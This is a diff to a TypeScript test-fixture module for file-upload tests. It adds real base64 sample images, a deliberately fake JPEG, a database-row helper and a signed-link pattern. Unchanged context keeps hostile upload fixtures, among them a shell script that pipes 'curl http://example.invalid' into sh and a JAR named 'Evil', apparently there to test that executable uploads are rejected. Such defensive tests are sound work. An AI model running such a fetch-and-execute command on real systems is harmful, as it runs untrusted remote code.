@@ -1,5 +1,8 @@
+import { randomUUID } from 'node:crypto';
 import { crc32 } from 'node:zlib';
 import type { App } from '../../../server/app';
+import type { Database } from '../../../server/db/client';
+import { files } from '../../../server/db/schema';
 
 export interface Part {
   field: string;
@@ -77,9 +80,19 @@ export const zip = (entries: Record<string, string>): Buffer => {
 export const PNG = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64',
 );
-export const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0\x01\x01'), Buffer.alloc(32, 7), Buffer.from([0xff, 0xd9])]);
-export const GIF = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x3b])]);
-export const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([26, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(18, 1)]);
+/** Real 2×2 images (made by sharp), which the upload decodes and encodes again. */
+export const JPEG = Buffer.from(
+  '/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgo'
+  + 'KCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAb/xAAU'
+  + 'EAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAABv/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AJAAnHX/2Q==',
+  'base64',
+);
+export const GIF = Buffer.from('R0lGODlhAgACAIAAAExpcTNmmSH5BAUAAAAALAAAAAACAAIAAAICjFMAOw==', 'base64');
+export const WEBP = Buffer.from(
+  'UklGRjgAAABXRUJQVlA4ICwAAADwAQCdASoCAAIAAUAmJaACdLoB+AAETAAA/u+9V/43bjDfgu/33oDeBgAAAA==', 'base64',
+);
+/** JPEG's signature and then nothing a decoder can read: "an image" only by its first bytes. */
+export const FAKE_JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0\x01\x01'), Buffer.alloc(32, 7), Buffer.from([0xff, 0xd9])]);
 export const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
 const OFFICE_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
 export const DOCX = zip({ '[Content_Types].xml': OFFICE_TYPES, 'word/document.xml': '<w:document/>' });
@@ -96,3 +109,18 @@ export const ELF = Buffer.concat([Buffer.from([0x7f]), Buffer.from('ELF'), Buffe
 export const SHELL = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
 export const JAR = zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n', 'Evil.class': 'cafebabe' });
 export const NOT_UTF8 = Buffer.from([0x68, 0x69, 0xc3, 0x28, 0x0a]);
+
+/**
+ * A row of the files table for `ownerId`, without bytes: enough for what refers to files (records, the sweep).
+ * `createdAt` defaults to now.
+ */
+export const storedFileRow = async (database: Database, ownerId: number, createdAt = new Date()): Promise<string> => {
+  const id = randomUUID();
+  await database.db.insert(files).values({
+    id, ownerId, kind: 'image', originalName: 'a.png', contentType: 'image/png', size: 100, sha256: '0'.repeat(64), createdAt,
+  });
+  return id;
+};
+
+/** A signed link to `id` as the server answers it (src/core/fileLinks.ts). */
+export const signedLinkOf = (id: string): RegExp => new RegExp(`^/api/file/${id}\\?t=\\d+\\.[A-Za-z0-9_-]{43}$`);
